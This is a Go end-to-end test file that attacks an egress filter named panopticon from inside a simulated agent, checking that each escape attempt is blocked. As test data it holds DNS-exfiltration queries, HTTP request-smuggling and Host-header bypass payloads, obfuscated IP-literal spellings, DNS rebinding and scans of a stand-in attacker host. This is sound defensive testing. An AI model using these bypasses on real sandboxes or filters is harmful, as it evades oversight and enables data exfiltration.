//go:build e2e

package e2e

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// bypassAllowlist is the policy TestBypass attacks.
const bypassAllowlist = `allowed.test
*.wild.test
alt.test:8443
private.test      # 10.0.0.5
rebind.test       # 127.0.0.1
metadata.test     # 169.254.169.254
linklocal.test    # 169.254.10.10
flip.test         # public, then loopback (DNS rebinding)
`

// TestBypass plays an agent that wants out, as uid 1000, against every door
// the egress suite (TestEgress) does not already try. Every case asserts that
// the far side saw nothing: the attacker, the fake hosts that were not meant
// to be reached, the outside resolvers and — widest of all — the wire, which
// records any packet leaving the pod that is not panopticon's own traffic.
func TestBypass(t *testing.T) {
	t.Parallel()
	tb := NewTestbed(t)
	p := tb.StartPanopticon(t, bypassAllowlist)
	wire, err := tb.StartWire()
	if err != nil {
		t.Fatal(err)
	}
	app := tb.App(t)
	allowed, denied := tb.Host("allowed.test"), tb.Host("denied.test")
	everyone := tb.watched
	// nobodyElse: only the fake hosts in except may have seen anything.
	nobodyElse := func(t *testing.T, m Marks, except ...*Upstream) {
		t.Helper()
		var ws []Watched
		for _, w := range everyone() {
			if u, ok := w.(*Upstream); ok && slices.Contains(except, u) {
				continue
			}
			if w == Watched(tb.DNS) {
				continue // panopticon's own lookups of allowed names
			}
			ws = append(ws, w)
		}
		AssertUnseen(t, m, ws...)
	}

	t.Run("tcp port sample", func(t *testing.T) {
		m := tb.Mark()
		ports := append(portSample(), "8080", "8081", "5353", "12000", "12001")
		for _, host := range []string{AttackerIP, AttackerIPv6, "203.0.113.10", "::ffff:" + AttackerIP} {
			r := app.Agent(append([]string{"tcpscan", host}, ports...)...)
			if strings.Contains(r.Got, "ATTACKER") || strings.Contains(r.Got, "hello") {
				t.Errorf("tcp to %s: a port answered from outside: %s", host, r)
			}
		}
		nobodyElse(t, m)
	})

	t.Run("udp port sample, QUIC included", func(t *testing.T) {
		m := tb.Mark()
		for _, host := range []string{AttackerIP, AttackerIPv6, "203.0.113.10", DirectDNSIP} {
			ports := portSample()
			if host == AttackerIP || host == DirectDNSIP {
				ports = slices.DeleteFunc(ports, func(p string) bool { return p == "53" }) // redirected DNS; see "dns"
			}
			start := time.Now()
			r := app.Agent(append([]string{"udpscan", host}, ports...)...)
			if r.Got != "" {
				t.Errorf("udp to %s: replies: %s", host, r)
			}
			if d := time.Since(start); d > 8*time.Second {
				t.Errorf("udp scan of %s took %v: blocked datagrams should fail fast", host, d)
			}
		}
		nobodyElse(t, m)
	})

	t.Run("icmp and ipv6 link-local", func(t *testing.T) {
		peer := tb.netLinkLocal(t)
		m := tb.Mark()
		for _, host := range []string{AttackerIP, AttackerIPv6, NetIP, peer + "%eth0"} {
			if r := app.Agent("ping", host); r.OK {
				t.Errorf("ping %s answered: %s", host, r)
			}
		}
		ll := "[" + peer + "%eth0]"
		if r := app.Agent("tcpscan", peer+"%eth0", "22", "443", "9999"); strings.Contains(r.Got, "ATTACKER") {
			t.Errorf("tcp to %s: %s", ll, r)
		}
		if r := app.Agent("udp", ll+":9999", "exfiltrate"); r.OK {
			t.Errorf("udp to %s answered: %s", ll, r)
		}
		// Link-local TCP lands on panopticon like any other TCP.
		r := app.Agent("raw", ll+":80", "-", "GET / HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n")
		if r.Status != 0 && r.Status != 403 {
			t.Errorf("http to %s: %s", ll, r)
		}
		nobodyElse(t, m)
	})

	t.Run("sockets bound to the device", func(t *testing.T) {
		// SO_BINDTODEVICE needs no privilege; a redirected packet from such a
		// socket is routed out of that device with its loopback destination.
		m := tb.Mark()
		var runs [][]string
		dnsQuery := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x01\x00\x01"
		for _, c := range []struct{ network, addr, payload string }{
			{"tcp", AttackerIP + ":9999", "bound"},
			{"tcp", "[" + AttackerIPv6 + "]:9999", "bound"},
			{"tcp", "203.0.113.10:80", "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"},
			{"udp", AttackerIP + ":9999", "bound"},
			{"udp", "[" + AttackerIPv6 + "]:9999", "bound"},
			{"udp", NetIP + ":53", dnsQuery},
			{"tcp", NetIP + ":53", "\x00\x1b" + dnsQuery},
			{"udp", "[2001:db8:1::1]:53", dnsQuery},
		} {
			runs = append(runs, []string{"bound", "eth0", c.network, c.addr, "hex:" + hex.EncodeToString([]byte(c.payload))})
		}
		for i, r := range app.agents(runs) {
			c := runs[i]
			// Redirected packets of a bound socket are dropped (mangle cannot
			// reject), so those attempts time out rather than fail fast.
			if strings.Contains(r.Got, "ATTACKER") || strings.Contains(r.Got, "evil") {
				t.Errorf("bound %s %s: %s", c[2], c[3], r)
			}
		}
		nobodyElse(t, m, allowed)
	})

	t.Run("riding panopticon's conntrack entries", func(t *testing.T) {
		// Panopticon's recent queries to the upstream resolver left conntrack
		// entries. A datagram from the app on the same tuple is not NEW, so
		// nat does not redirect it: the filter must not let it out as
		// "established".
		m := tb.Mark()
		for range 20 {
			app.Agent("dns", UpstreamDNS, "allowed.test", "A")
		}
		r := app.Agent("udpspray", UpstreamDNS, SprayMarker, "32768", "60999")
		t.Logf("spray: %s", r)
		nobodyElse(t, m, allowed)
	})

	t.Run("dns to outside servers, over udp, tcp and tls", func(t *testing.T) {
		m := tb.Mark()
		for _, c := range []struct{ server, name, transport string }{
			{DirectDNSIP + ":53", "denied.test", "udp"},
			{DirectDNSIP + ":53", "denied.test", "tcp"},
			{"[" + AttackerIPv6 + "]:53", "evil.test", "udp"},
			{"[" + AttackerIPv6 + "]:53", "evil.test", "tcp"},
		} {
			args := []string{"dns", c.server, c.name, "A"}
			if c.transport == "tcp" {
				args = append(args, "tcp")
			}
			if r := app.Agent(args...); r.Rcode != "NXDOMAIN" {
				t.Errorf("%s via %s/%s: %s; want NXDOMAIN from panopticon", c.name, c.server, c.transport, r)
			}
		}
		// DNS over TLS (853): a TLS connection like any other; its name is not allowlisted.
		query := "hex:" + hex.EncodeToString([]byte("\x00\x1b\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x01\x00\x01"))
		for _, c := range []struct{ addr, sni string }{
			{DirectDNSIP + ":853", "dns.outside.test"}, {AttackerIP + ":853", "none"}, {AttackerIP + ":853", "-"},
		} {
			r := app.Agent("raw", c.addr, c.sni, query, "1000")
			if strings.Contains(r.Got, "ATTACKER") || strings.Contains(r.Got, "evil") {
				t.Errorf("DoT to %s (sni %s): %s", c.addr, c.sni, r)
			}
		}
		nobodyElse(t, m)
		AssertUnseen(t, m, tb.DNS)
	})

	t.Run("dns exfiltration through a denied name", func(t *testing.T) {
		m := tb.Mark()
		label := strings.Repeat("c2VjcmV0", 7) + "abcdefg" // 63 bytes
		long := strings.Join([]string{label, label, label}, ".") + ".denied.test"
		for _, c := range []struct{ name, qtype, transport string }{
			{long, "TXT", "udp"}, {long, "TXT", "tcp"}, {long, "NULL", "udp"}, {long, "AAAA", "udp"},
			{"c2VjcmV0.evil.test", "TXT", "udp"}, {"c2VjcmV0.allowed.test.evil.test", "A", "tcp"},
			{`c2VjcmV0\.allowed.test`, "A", "udp"},
		} {
			args := []string{"dns", UpstreamDNS, c.name, c.qtype}
			if c.transport == "tcp" {
				args = append(args, "tcp")
			}
			if r := app.Agent(args...); r.Rcode != "NXDOMAIN" || len(r.Answers) > 0 {
				t.Errorf("%s %s/%s: %s; want NXDOMAIN", c.qtype, clip(c.name, 40), c.transport, r)
			}
		}
		AssertUnseen(t, m, tb.DNS, tb.DirectDNS, tb.Attacker, wire)
	})

	t.Run("ip literals in every spelling", func(t *testing.T) {
		m := tb.Mark()
		spellings := []string{
			"203.0.113.10", "203.0.113.10.", "3405803786", "0xcb00710a", "0xcb.0x0.0x71.0xa",
			"0313.0.0161.012", "203.0.28938", "203.7434", "[::ffff:203.0.113.10]", "[::ffff:cb00:710a]",
			"[::ffff:203.0.113.10]:80", "3405803786.", "0XCB00710A",
		}
		for _, host := range spellings {
			req := "GET / HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
			r := app.Agent("raw", "203.0.113.10:80", "-", req)
			assertRawBlocked(t, "plain Host "+host, r, "ip-literal")
			if strings.HasPrefix(host, "[") {
				continue // a TLS server name cannot hold brackets
			}
			sni := strings.TrimSuffix(host, ".")
			r = app.Agent("raw", "203.0.113.10:443", sni, req)
			assertRawBlocked(t, "TLS SNI "+sni, r, "ip-literal")
		}
		// curl normalises some spellings itself; what it sends is refused too.
		for _, u := range []string{"http://3405803786/", "http://0xcb00710a/", "http://0313.0.0161.012/", "http://[::ffff:203.0.113.10]/", "https://3405803786/"} {
			r := app.Curl(u, "-k")
			if r.Status != 0 && !r.Is(403) || strings.Contains(r.Body, "hello from") {
				t.Errorf("curl %s: %s", u, r)
			}
		}
		nobodyElse(t, m)
	})

	t.Run("tls without sni", func(t *testing.T) {
		m := tb.Mark()
		for _, c := range []struct{ host, reason string }{
			{"allowed.test", "no-sni"}, {"", "ip-literal"}, {"203.0.113.10", "ip-literal"},
		} {
			req := "GET / HTTP/1.1\r\nHost: " + c.host + "\r\nConnection: close\r\n\r\n"
			if c.host == "" {
				req = "GET / HTTP/1.0\r\n\r\n"
			}
			r := app.Agent("raw", "203.0.113.10:443", "none", req)
			assertRawBlocked(t, "no SNI, Host "+c.host, r, c.reason)
		}
		nobodyElse(t, m)
	})

	t.Run("host header games", func(t *testing.T) {
		m := tb.Mark()
		for _, c := range []struct{ addr, sni, host string }{
			{"203.0.113.10:443", "allowed.test", "denied.test"},
			{"203.0.113.10:443", "allowed.test", "allowed.test:443@denied.test"},
			{"203.0.113.10:443", "allowed.test", "denied.test:443"},
			{"203.0.113.10:443", "allowed.test", "allowed.test:8443"},
			{"203.0.113.10:443", "allowed.test", "allowed.test:0443"},
			{"203.0.113.10:443", "allowed.test", "allowed.test.denied.test"},
			{"203.0.113.10:443", "allowed.test", "denied.test#allowed.test"},
			{"203.0.113.10:443", "allowed.test", "allowed.test\tdenied.test"},
			{"203.0.113.10:80", "-", "allowed.test:443"},
			{"203.0.113.10:80", "-", "allowed.test:80@denied.test"},
			{"203.0.113.20:443", "denied.test", "allowed.test"},
		} {
			req := "GET /games HTTP/1.1\r\nHost: " + c.host + "\r\nConnection: close\r\n\r\n"
			r := app.Agent("raw", c.addr, c.sni, req)
			if r.Status == 200 {
				t.Errorf("SNI %q Host %q on %s: %s", c.sni, c.host, c.addr, r)
			}
		}
		// Two Host headers.
		r := app.Agent("raw", "203.0.113.10:443", "allowed.test", "GET /games HTTP/1.1\r\nHost: allowed.test\r\nHost: denied.test\r\nConnection: close\r\n\r\n")
		if r.Status == 200 {
			t.Errorf("two Host headers: %s", r)
		}
		assertOnlyHost(t, m, allowed, "allowed.test")
		nobodyElse(t, m)
	})

	t.Run("absolute-uri requests naming another host", func(t *testing.T) {
		m := tb.Mark()
		for _, c := range []struct{ addr, sni, req string }{
			{"203.0.113.10:443", "allowed.test", "GET https://denied.test/abs HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"},
			{"203.0.113.10:443", "allowed.test", "GET http://denied.test:443/abs HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"},
			{"203.0.113.10:80", "-", "GET http://denied.test/abs HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"},
			{"203.0.113.10:80", "-", "GET http://" + AttackerIP + ":9999/abs HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"},
			{"203.0.113.10:80", "-", "GET //denied.test/abs HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"},
		} {
			r := app.Agent("raw", c.addr, c.sni, c.req)
			if r.Status == 200 && !strings.Contains(r.Got, "hello from allowed.test") && !strings.Contains(r.Got, "404") {
				t.Errorf("%q: %s", c.req, r)
			}
		}
		assertOnlyHost(t, m, allowed, "allowed.test")
		nobodyElse(t, m, allowed)
	})

	t.Run("http/2 :authority differs from sni", func(t *testing.T) {
		m := tb.Mark()
		if r := app.Agent("h2", "https://allowed.test/", "allowed.test"); !r.OK || !strings.HasPrefix(r.Got, "HTTP/2.0 200") {
			t.Fatalf("h2 control request: %s", r)
		}
		m = tb.Mark()
		for _, authority := range []string{"denied.test", "allowed.test:8443", "denied.test:443", AttackerIP} {
			r := app.Agent("h2", "https://allowed.test/", authority)
			if r.Status == 200 || !strings.Contains(r.Got, "block=") || strings.Contains(r.Got, "block= ") {
				t.Errorf("h2 :authority %s: %s", authority, r)
			}
		}
		nobodyElse(t, m)
	})

	t.Run("connect through an allowed host", func(t *testing.T) {
		m := tb.Mark()
		for _, c := range []struct{ addr, sni, target string }{
			{"203.0.113.10:443", "allowed.test", "allowed.test:443"},
			{"203.0.113.10:443", "allowed.test", "denied.test:443"},
			{"203.0.113.10:443", "allowed.test", AttackerIP + ":9999"},
			{"203.0.113.10:80", "-", "allowed.test:80"},
			{"203.0.113.10:80", "-", AttackerIP + ":80"},
		} {
			req := "CONNECT " + c.target + " HTTP/1.1\r\nHost: " + c.target + "\r\nConnection: close\r\n\r\n"
			r := app.Agent("raw", c.addr, c.sni, req)
			if r.Status == 200 || r.Status == 0 || !strings.Contains(r.Got, "X-Panopticon-Block:") {
				t.Errorf("CONNECT %s via %s: %s; want a refusal", c.target, c.addr, r)
			}
		}
		// No tunnel was dialled: the upstream saw no connection at all.
		AssertUnseen(t, m, allowed)
		nobodyElse(t, m)
		p.WaitFlow(t, FlowMatch{Kind: "egress", Decision: "block", Reason: "connect-refused", Host: "allowed.test"})
	})

	t.Run("request smuggling toward an upstream", func(t *testing.T) {
		smuggled := "GET /smuggled HTTP/1.1\r\nHost: denied.test\r\n\r\n"
		chunkedWithSmuggled := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(smuggled), smuggled)
		cases := []struct{ name, head, body string }{
			{"CL and TE", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + smuggled},
			{"TE and CL", "Transfer-Encoding: chunked\r\nContent-Length: 200\r\n", chunkedWithSmuggled},
			{"two CLs", "Content-Length: 0\r\nContent-Length: " + strconv.Itoa(len(smuggled)) + "\r\n", smuggled},
			{"CL list", "Content-Length: 0, " + strconv.Itoa(len(smuggled)) + "\r\n", smuggled},
			{"TE chunked, identity", "Transfer-Encoding: chunked, identity\r\nContent-Length: 0\r\n", chunkedWithSmuggled},
			{"TE xchunked", "Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n", smuggled},
			{"TE space before colon", "Transfer-Encoding : chunked\r\nContent-Length: 0\r\n", chunkedWithSmuggled},
			{"TE obs-fold", "Transfer-Encoding:\r\n chunked\r\nContent-Length: 0\r\n", chunkedWithSmuggled},
			{"CL plus sign", "Content-Length: +0\r\n", smuggled},
			{"bare LF", "Content-Length: 0\nX: y\r\n", smuggled},
		}
		m := tb.Mark()
		var runs [][]string
		var names []string
		for _, target := range []struct{ addr, sni string }{{"203.0.113.10:80", "-"}, {"203.0.113.10:443", "allowed.test"}} {
			for _, c := range cases {
				req := "POST /echo HTTP/1.1\r\nHost: allowed.test\r\n" + c.head + "\r\n" + c.body
				runs = append(runs, []string{"raw", target.addr, target.sni, req, "700"})
				names = append(names, c.name+" via "+target.addr)
			}
		}
		results := app.agents(runs)
		for i, r := range results {
			t.Logf("%s: status %d", names[i], r.Status)
		}
		time.Sleep(100 * time.Millisecond)
		for _, rq := range allowed.Requests(m[allowed.rec()]) {
			if rq.Path == "/smuggled" || rq.Host != "allowed.test" {
				t.Errorf("the upstream saw a request panopticon did not check: %+v", rq)
			}
		}
		nobodyElse(t, m, allowed)
		// A pipelined second request is checked like the first.
		m = tb.Mark()
		req := "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + smuggled
		app.Agent("raw", "203.0.113.10:80", "-", req, "700")
		for _, rq := range allowed.Requests(m[allowed.rec()]) {
			if rq.Host != "allowed.test" {
				t.Errorf("pipelined request reached the upstream unchecked: %+v", rq)
			}
		}
		AssertUnseen(t, m, denied)
	})

	t.Run("allowed names resolving to private addresses", func(t *testing.T) {
		m := tb.Mark()
		for _, name := range []string{"metadata.test", "linklocal.test", "private.test", "rebind.test"} {
			r := app.Curl("https://"+name+"/", "--resolve", name+":443:203.0.113.10")
			assertBlocked(t, r, "private-address")
			r = app.Curl("http://"+name+"/", "--resolve", name+":80:203.0.113.10")
			assertBlocked(t, r, "private-address")
			if a := app.Agent("dns", UpstreamDNS, name, "A"); len(a.Answers) > 0 {
				t.Errorf("dns %s: %s; want no answer into a private range", name, a)
			}
		}
		AssertUnseen(t, m, allowed)
		nobodyElse(t, m)
	})

	t.Run("dns rebinding between check and dial", func(t *testing.T) {
		m := tb.Mark()
		// The app's own lookup (through panopticon) gets the public answer...
		if r := app.Agent("dns", UpstreamDNS, "flip.test", "A"); !slices.Equal(r.Answers, []string{"203.0.113.10"}) {
			t.Logf("first lookup of flip.test: %s (the flip may be out of phase)", r)
		}
		// ...and panopticon's own lookup, which decides where to dial, the loopback one.
		for range 3 {
			r := app.Curl("https://flip.test/", "--resolve", "flip.test:443:203.0.113.10")
			if r.Is(200) {
				t.Errorf("flip.test served: %s", r)
			}
			if r.Status != 403 && r.Status != 502 {
				t.Errorf("flip.test: %s; want 403 private-address (or 502 when the public answer came back)", r)
			}
		}
		p.WaitFlow(t, FlowMatch{Kind: "egress", Decision: "block", Reason: "private-address", Host: "flip.test"})
		nobodyElse(t, m, allowed)
	})

	t.Run("clienthello split across many segments", func(t *testing.T) {
		m := tb.Mark()
		if r := app.Agent("split", "203.0.113.10:443", "allowed.test", "/"); !r.OK || r.Got != "hello from allowed.test" {
			t.Errorf("split hello to allowed.test: %s", r)
		}
		AssertSeen(t, m, allowed)
		m = tb.Mark()
		if r := app.Agent("split", "203.0.113.20:443", "denied.test", "/"); r.Status != 403 {
			t.Errorf("split hello to denied.test: %s; want 403", r)
		}
		nobodyElse(t, m)
	})

	t.Run("straight to panopticon's own listeners", func(t *testing.T) {
		m := tb.Mark()
		for _, server := range []string{"127.0.0.1:5353", "[::1]:5353"} {
			for _, transport := range []string{"udp", "tcp"} {
				args := []string{"dns", server, "denied.test", "TXT"}
				if transport == "tcp" {
					args = append(args, "tcp")
				}
				if r := app.Agent(args...); r.OK && r.Rcode != "NXDOMAIN" {
					t.Errorf("dns %s/%s: %s", server, transport, r)
				}
			}
		}
		if r := app.Agent("dns", PodIP+":5353", "denied.test", "A"); r.OK && r.Rcode != "NXDOMAIN" {
			t.Errorf("dns %s:5353: %s", PodIP, r)
		}
		for _, addr := range []string{"127.0.0.1:8080", "[::1]:8080", PodIP + ":8080"} {
			for _, sni := range []string{"allowed.test", "denied.test"} {
				r := app.Agent("raw", addr, sni, "GET / HTTP/1.1\r\nHost: "+sni+"\r\nConnection: close\r\n\r\n")
				if r.Status == 200 || strings.Contains(r.Got, "hello from") {
					t.Errorf("TLS straight to the transparent port %s (SNI %s): %s", addr, sni, r)
				}
			}
		}
		for _, addr := range []string{"127.0.0.1:8081", "[::1]:8081", PodIP + ":8081"} {
			if r := app.Agent("raw", addr, "-", "GET /api/allowlist HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"); r.OK {
				t.Errorf("dashboard at %s answered: %s", addr, r)
			}
		}
		AssertUnseen(t, m, allowed)
		nobodyElse(t, m)
	})

	t.Run("the flow log names each refusal", func(t *testing.T) {
		for _, fm := range []FlowMatch{
			{Kind: "egress", Decision: "block", Reason: "ip-literal"},
			{Kind: "egress", Decision: "block", Reason: "no-sni"},
			{Kind: "egress", Decision: "block", Reason: "host-mismatch"},
			{Kind: "egress", Decision: "block", Reason: "private-address", Host: "metadata.test"},
			{Kind: "dns", Decision: "block", Reason: "not-allowlisted", Host: "evil.test"},
		} {
			p.WaitFlow(t, fm)
		}
	})

	t.Run("still serving", func(t *testing.T) {
		if p.Exited() {
			t.Fatalf("panopticon exited:\n%s", p.Output())
		}
		if r := app.Curl("https://allowed.test/"); !r.Is(200) {
			t.Errorf("allowed.test after the attacks: %s", r)
		}
		if got := wire.Saw(); len(got) > 0 {
			t.Errorf("the wire saw %d unexpected packet(s) during the whole test:\n  %s", len(got), strings.Join(got, "\n  "))
		}
	})
}

// portSample is a sample of TCP/UDP ports: the well known, the usual
// tunnels and proxies, and high ones.
func portSample() []string {
	ports := []int{1, 7, 21, 22, 23, 25, 53, 67, 80, 110, 123, 137, 143, 161, 389, 443, 445, 500, 514, 587,
		853, 993, 995, 1080, 1194, 1723, 1900, 3128, 3306, 3389, 3478, 4500, 5060, 5201, 5432, 6379, 6881,
		8000, 8443, 8888, 9050, 9999, 10000, 19302, 27017, 31337, 40000, 49152, 51820, 60000, 65000, 65535}
	// A deterministic spread over the high range.
	for p := 1025; p < 65535; p += 4099 {
		ports = append(ports, p)
	}
	out := make([]string, len(ports))
	for i, p := range ports {
		out[i] = strconv.Itoa(p)
	}
	return out
}

// assertRawBlocked checks a raw request got panopticon's refusal with reason
// (or no HTTP answer at all), and never an upstream's.
func assertRawBlocked(t *testing.T, what string, r AgentResult, reason string) {
	t.Helper()
	if strings.Contains(r.Got, "hello from") || r.Status == 200 {
		t.Errorf("%s: reached an upstream: %s", what, r)
		return
	}
	if r.Status == 0 {
		return
	}
	if r.Status != 403 || !strings.Contains(r.Got, "X-Panopticon-Block: "+reason) {
		t.Errorf("%s: want 403 %s: %s", what, reason, r)
	}
}

// assertOnlyHost fails when u saw a request whose Host is not host.
func assertOnlyHost(t *testing.T, m Marks, u *Upstream, host string) {
	t.Helper()
	for _, rq := range u.Requests(m[u.rec()]) {
		if rq.Host != host {
			b, _ := json.Marshal(rq)
			t.Errorf("%s received a request for Host %q: %s", u.Name, rq.Host, b)
		}
	}
}

// netLinkLocal is the fe80:: address of the fake internet's end of the veth.
func (tb *Testbed) netLinkLocal(t *testing.T) string {
	t.Helper()
	var addr string
	err := tb.inNetns(tb.Net, func() error {
		ifi, err := net.InterfaceByName("eth0")
		if err != nil {
			return err
		}
		addrs, err := ifi.Addrs()
		if err != nil {
			return err
		}
		for _, a := range addrs {
			if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().IsLinkLocalUnicast() {
				addr = p.Addr().String()
			}
		}
		return nil
	})
	if err != nil || addr == "" {
		t.Fatalf("no link-local address on the fake internet's eth0: %v", err)
	}
	return addr
}

// agents runs several agent subcommands at once and returns their results
// in order; a run that printed no result comes back with Err set.
func (a *App) agents(runs [][]string) []AgentResult {
	a.t.Helper()
	out := make([]AgentResult, len(runs))
	done := make(chan struct{}, len(runs))
	for i, args := range runs {
		go func() {
			defer func() { done <- struct{}{} }()
			run := a.Run(15*time.Second, append([]string{agentBin}, args...)...)
			var r AgentResult
			if err := json.Unmarshal([]byte(strings.TrimSpace(run.Stdout)), &r); err != nil {
				r.Err = fmt.Sprintf("no result: %v: %s", err, run)
			}
			r.Run = run
			out[i] = r
		}()
	}
	for range runs {
		<-done
	}
	return out
}
